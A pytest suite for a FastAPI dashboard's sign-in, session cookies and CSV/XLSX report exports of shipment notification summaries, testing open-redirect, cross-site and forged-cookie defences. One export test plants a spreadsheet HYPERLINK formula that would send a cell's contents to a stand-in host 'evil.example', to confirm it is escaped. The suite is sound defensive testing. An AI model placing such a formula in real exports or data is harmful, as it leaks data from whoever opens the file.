"""The /dashboard page, its session cookie, and the CSV/XLSX exports (in-process)."""

import csv
import io
import re
from collections.abc import Iterator
from datetime import UTC, datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from app.core.config import Settings
from app.dashboard.cookies import COOKIE_NAME
from app.main import create_app
from tests.dashboard.scenario import YEAR, build
from tests.factories import Api, event_body, lane, record_shipment


@pytest.fixture
def browser(settings: Settings, engine: Engine) -> Iterator[TestClient]:
    """A client like a browser on plain http://localhost (so the cookie is not Secure-only)."""
    plain = settings.model_copy(update={"session_cookie_secure": False})
    with TestClient(create_app(plain, engine=engine), raise_server_exceptions=False) as client:
        yield client


def sign_in(client: TestClient, token: str) -> None:
    response = client.post(
        "/dashboard/sign-in",
        content=f"token={token}",
        headers={"Content-Type": "application/x-www-form-urlencoded"},
        follow_redirects=False,
    )
    assert response.status_code == 303, response.text
    cookie = response.headers["set-cookie"]
    assert "HttpOnly" in cookie and "SameSite=strict" in cookie
    assert token not in cookie


class TestSignIn:
    def test_without_session_shows_the_form(self, browser: TestClient) -> None:
        response = browser.get("/dashboard")
        assert response.status_code == 200
        assert 'name="token"' in response.text
        assert "script-src 'self'" in response.headers["content-security-policy"]

    def test_bad_token_is_401(self, browser: TestClient) -> None:
        response = browser.post(
            "/dashboard/sign-in",
            content="token=pt_nope",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
        )
        assert response.status_code == 401
        assert COOKIE_NAME not in response.headers.get("set-cookie", "")

    def test_customs_signs_in_to_the_workspace_not_the_summaries(
        self, browser: TestClient, api: Api
    ) -> None:
        response = browser.post(
            "/dashboard/sign-in",
            content=f"token={api.customs('DE').token}&next=/dashboard",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            follow_redirects=False,
        )
        assert response.status_code == 303
        assert response.headers["location"] == "/workspace"
        assert browser.get("/dashboard").status_code == 403
        assert browser.get("/api/v1/summaries/overview").status_code == 403

    def test_next_never_leaves_the_site(self, browser: TestClient, api: Api) -> None:
        response = browser.post(
            "/dashboard/sign-in",
            content=f"token={api.analyst().token}&next=//evil.example/x",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            follow_redirects=False,
        )
        assert response.headers["location"] == "/dashboard"


class TestFrontDoor:
    def test_root_leads_a_browser_to_sign_in(self, browser: TestClient) -> None:
        response = browser.get("/", follow_redirects=False)
        assert response.status_code == 303 and response.headers["location"] == "/sign-in"
        page = browser.get("/")
        assert page.status_code == 200 and 'name="token"' in page.text
        assert 'href="/docs"' in page.text

    def test_root_leads_a_signed_in_analyst_to_the_dashboard(
        self, browser: TestClient, api: Api
    ) -> None:
        sign_in(browser, api.analyst().token)
        response = browser.get("/", follow_redirects=False)
        assert response.headers["location"] == "/dashboard"

    def test_session_reads_the_page_and_the_api(self, browser: TestClient, api: Api) -> None:
        sign_in(browser, api.analyst().token)
        page = browser.get("/dashboard")
        assert page.status_code == 200 and 'data-figure="pens_sent"' in page.text
        assert browser.get("/api/v1/summaries/overview").status_code == 200
        browser.post("/dashboard/sign-out", follow_redirects=False)
        browser.cookies.clear()
        assert browser.get("/api/v1/summaries/overview").status_code == 401

    def test_secure_cookie_by_default(self, client: TestClient, api: Api) -> None:
        response = client.post(
            "/dashboard/sign-in",
            content=f"token={api.analyst().token}",
            headers={"Content-Type": "application/x-www-form-urlencoded"},
            follow_redirects=False,
        )
        assert "Secure" in response.headers["set-cookie"]

    def test_forged_cookie_is_ignored(self, browser: TestClient, api: Api) -> None:
        sign_in(browser, api.analyst().token)
        value = browser.cookies[COOKIE_NAME]
        user_id, issued, expires, signature = value.split(".")
        browser.cookies.clear()
        browser.cookies.set(COOKIE_NAME, f"{user_id}.{issued}.{int(expires) + 99999}.{signature}")
        assert browser.get("/api/v1/summaries/overview").status_code == 401
        browser.cookies.clear()
        browser.cookies.set(COOKIE_NAME, value)
        assert browser.get("/api/v1/summaries/overview").status_code == 200

    def test_sign_out_ends_the_session_on_the_server(self, browser: TestClient, api: Api) -> None:
        sign_in(browser, api.analyst().token)
        kept = browser.cookies[COOKIE_NAME]
        out = browser.post("/dashboard/sign-out", follow_redirects=False)
        assert out.status_code == 303
        browser.cookies.clear()
        browser.cookies.set(COOKIE_NAME, kept)  # a copy of the cookie taken before sign-out
        assert browser.get("/api/v1/summaries/overview").status_code == 401

    def test_a_revoked_token_ends_its_sessions(self, browser: TestClient, api: Api) -> None:
        analyst = api.analyst()
        sign_in(browser, analyst.token)
        assert browser.get("/api/v1/summaries/overview").status_code == 200
        [mine] = [
            t for t in api.admin.get("/api/v1/tokens").json()["items"] if t["role"] == "analyst"
        ]
        assert api.admin.delete(f"/api/v1/tokens/{mine['id']}").status_code == 204
        assert browser.get("/api/v1/summaries/overview").status_code == 401

    @pytest.mark.parametrize(
        "headers",
        [
            {"Origin": "https://evil.example"},
            {"Origin": "null"},
            {"Referer": "https://evil.example/x"},
        ],
    )
    def test_a_cross_site_sign_in_is_refused(
        self, browser: TestClient, api: Api, headers: dict[str, str]
    ) -> None:
        response = browser.post(
            "/dashboard/sign-in",
            content=f"token={api.analyst().token}",
            headers={"Content-Type": "application/x-www-form-urlencoded", **headers},
            follow_redirects=False,
        )
        assert response.status_code == 403
        assert COOKIE_NAME not in response.headers.get("set-cookie", "")

    def test_a_same_site_sign_in_is_accepted(self, browser: TestClient, api: Api) -> None:
        response = browser.post(
            "/dashboard/sign-in",
            content=f"token={api.analyst().token}",
            headers={
                "Content-Type": "application/x-www-form-urlencoded",
                "Origin": "http://testserver",
            },
            follow_redirects=False,
        )
        assert response.status_code == 303, response.text

    def test_static_files_are_served(self, browser: TestClient) -> None:
        assert browser.get("/dashboard/static/vendor/chart.umd.min.js").status_code == 200
        assert browser.get("/dashboard/static/dashboard.js").status_code == 200


class TestExports:
    def test_a_formula_in_a_customs_reference_arrives_as_text(self, api: Api) -> None:
        de_pk = lane(api)
        pen = de_pk.pen_in("no_objection")
        formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
        ae = api.customs("AE")
        shipment = record_shipment(ae, pen, customs_reference=formula, quantity=5.6, unit="t")
        observed = event_body("transit_entered", "AE", quantity_observed=5800, unit="l")
        events = f"/api/v1/shipments/{shipment['id']}/events"
        assert ae.post(events, json=observed).status_code == 201
        params = {"year": datetime.now(UTC).year, "table": "gaps"}
        analyst = api.analyst()
        response = analyst.get(
            "/api/v1/summaries/shipments/export", params={**params, "format": "csv"}
        )
        assert response.status_code == 200, response.text
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        column = rows[0].index("Customs reference")
        assert [r[column] for r in rows[1:]] == ["'" + formula]
        response = analyst.get(
            "/api/v1/summaries/shipments/export", params={**params, "format": "xlsx"}
        )
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        cells = [
            c for row in sheet.iter_rows() for c in row if c.value and "HYPERLINK" in str(c.value)
        ]
        assert [(c.value, c.data_type) for c in cells] == [("'" + formula, "s")]

    def test_the_printable_report_carries_the_page_security_headers(self, api: Api) -> None:
        response = api.analyst().get(
            "/api/v1/summaries/annual-report",
            params={"year": datetime.now(UTC).year, "format": "html"},
        )
        assert response.status_code == 200, response.text
        assert "script-src 'self'" in response.headers["content-security-policy"]
        assert response.headers["x-content-type-options"] == "nosniff"

    def test_csv_and_xlsx_equal_the_json(self, api: Api) -> None:
        build(api)
        analyst = api.analyst()
        params = {"year": YEAR}
        summary = analyst.get("/api/v1/summaries/pens", params=params).json()
        response = analyst.get(
            "/api/v1/summaries/pens/export", params={**params, "table": "matrix", "format": "csv"}
        )
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert rows[0] == [
            "Exporting country",
            "Importing country",
            "PENs",
            "Quantity (kg)",
            "Quantity (l)",
        ]
        assert [(r[0], r[1], int(r[2])) for r in rows[1:]] == [
            (m["exporting_country"], m["importing_country"], m["pens"]) for m in summary["matrix"]
        ]
        response = analyst.get(
            "/api/v1/summaries/pens/export", params={**params, "table": "matrix", "format": "xlsx"}
        )
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet is not None
        values = [
            row for row in sheet.iter_rows(values_only=True) if any(v is not None for v in row)
        ]
        assert values[1][:3] == ("Exporting country", "Importing country", "PENs")
        assert [(r[0], r[1], r[2]) for r in values[2:]] == [
            (m["exporting_country"], m["importing_country"], m["pens"]) for m in summary["matrix"]
        ]

    def test_unknown_table_is_422(self, api: Api) -> None:
        response = api.analyst().get("/api/v1/summaries/pens/export", params={"table": "nope"})
        assert response.status_code == 422

    def test_annual_report(self, api: Api) -> None:
        build(api)
        analyst = api.analyst()
        response = analyst.get(
            "/api/v1/summaries/annual-report", params={"year": YEAR, "format": "xlsx"}
        )
        assert response.status_code == 200
        workbook = load_workbook(io.BytesIO(response.content))
        assert len(workbook.sheetnames) == 10
        summary = workbook[workbook.sheetnames[0]]
        figures = {row[0]: row[1] for row in summary.iter_rows(values_only=True) if row[0]}
        pens = analyst.get("/api/v1/summaries/pens", params={"year": YEAR, "substance": "108-24-7"})
        assert figures["PENs sent"] == pens.json()["totals"]["pens"]
        html = analyst.get(
            "/api/v1/summaries/annual-report", params={"year": YEAR, "format": "html"}
        )
        assert html.status_code == 200 and "Table 7. Seizures" in html.text

    def test_a_filtered_report_says_so_on_every_sheet_and_page(self, api: Api) -> None:
        build(api)
        params = {"year": YEAR, "importing_country": "PK"}
        analyst = api.analyst()
        xlsx = analyst.get("/api/v1/summaries/annual-report", params={**params, "format": "xlsx"})
        workbook = load_workbook(io.BytesIO(xlsx.content))
        for sheet in workbook.worksheets:
            preface = " ".join(
                str(v) for v in next(sheet.iter_rows(min_row=2, max_row=2, values_only=True)) if v
            )
            assert "Importing country: Pakistan (PK)" in preface, sheet.title
        html = analyst.get("/api/v1/summaries/annual-report", params={**params, "format": "html"})
        assert "Importing country" in html.text and "Pakistan (PK)" in html.text
        everything = analyst.get(
            "/api/v1/summaries/annual-report", params={"year": YEAR, "format": "html"}
        )
        assert "Pakistan (PK)" not in everything.text and "all countries" in everything.text

    def test_the_report_reads_like_a_report(self, api: Api) -> None:
        """Grouped digits, whole litres to one decimal, rates as percentages, no empty "Since"
        column, the importing country first in Table 5."""
        build(api)
        analyst = api.analyst()
        params = {"year": YEAR, "format": "xlsx"}
        workbook = load_workbook(
            io.BytesIO(analyst.get("/api/v1/summaries/annual-report", params=params).content)
        )
        table1, table5 = workbook.worksheets[1], workbook.worksheets[5]
        headings1 = [c.value for c in table1[5]]
        assert "Since" not in headings1 and headings1[:2] == ["Country", "Country name"]
        headings5 = [c.value for c in table5[5]]
        assert headings5[:2] == ["Importing country", "Country name"]
        rate = headings5.index("Objection rate") + 1
        assert table5.cell(row=6, column=rate).number_format == "0.0%"
        assert table5.cell(row=6, column=headings5.index("PENs sent") + 1).number_format == "#,##0"
        html = analyst.get(
            "/api/v1/summaries/annual-report", params={"year": YEAR, "format": "html"}
        ).text
        assert "Since" not in html
        assert not re.search(r">\d+\.\d{3}<", html), "three-decimal figures"
        assert not re.search(r">0\.\d{4,}<", html), "raw rates"
        assert re.search(r">\d+\.\d%<", html), "rates as percentages"

    def test_months_without_activity_stay_on_the_flows_axis(self, api: Api) -> None:
        build(api)
        body = api.analyst().get("/api/v1/summaries/region-flows", params={"year": YEAR}).json()
        assert [m["month"] for m in body["by_month"]] == [f"{YEAR}-{m:02d}" for m in range(1, 13)]


@pytest.mark.parametrize(
    "period", ["from=2025-01-01&to=9999-12-31", "from=0001-01-01&to=2025-01-01"]
)
def test_a_period_outside_any_plausible_record_is_422(api: Api, period: str) -> None:
    response = api.analyst().get(f"/api/v1/summaries/overview?{period}")
    assert response.status_code == 422, response.text
    assert response.headers["content-type"] == "application/problem+json"
